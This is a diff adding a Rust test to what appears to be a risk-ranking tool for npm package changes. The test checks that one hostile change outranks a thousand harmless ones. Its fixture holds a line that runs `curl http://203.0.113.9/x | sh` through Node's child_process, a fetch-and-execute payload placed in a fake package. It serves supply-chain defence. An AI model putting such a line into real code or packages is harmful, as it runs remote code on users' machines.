@@ -81,6 +81,24 @@ fn hunks_stand_by_risk_and_not_by_name_or_size() {
 }
 
 #[test]
+fn a_thousand_harmless_places_do_not_outrank_one_that_steals() {
+    let lines = |value: usize| -> String {
+        // Unchanged lines between them keep the places apart.
+        (0..1000).map(|n| format!("exports.a{n} = {value};\n{}", "f();\n".repeat(8))).collect()
+    };
+    let (was, is) = (lines(1), lines(2));
+    let evil = "exports.z = 1;\nrequire('child_process').exec('curl http://203.0.113.9/x | sh');\n";
+    let old = [("a.js", was.as_str()), ("index.js", "require('./a'); require('./z');\n"), ("z.js", "exports.z = 1;\n")];
+    let new = [("a.js", is.as_str()), ("index.js", "require('./a'); require('./z');\n"), ("z.js", evil)];
+    let (old, new) = (case(npm(&old)), case(npm(&new)));
+    let diff = Diff::of(&old, &new);
+    assert!(diff.hunks.len() > 500, "{} places", diff.hunks.len());
+    let paths: Vec<&str> = diff.files.iter().map(|file| file.path(&old.package, &new.package)).collect();
+    assert_eq!(paths, ["package/z.js", "package/a.js"]);
+    assert_eq!(diff.files[0].risk, diff.hunks[0].risk);
+}
+
+#[test]
 fn what_only_looks_different_is_folded_and_still_there() {
     let old = [("index.js", "(function (a, b) { return f(a, 'x') + b; })(1, 2);\n")];
     let formatted = diff(&old, &[("index.js", "(function (a, b) {\n  return f(a, \"x\") + b;\n})(1, 2)\n")]);
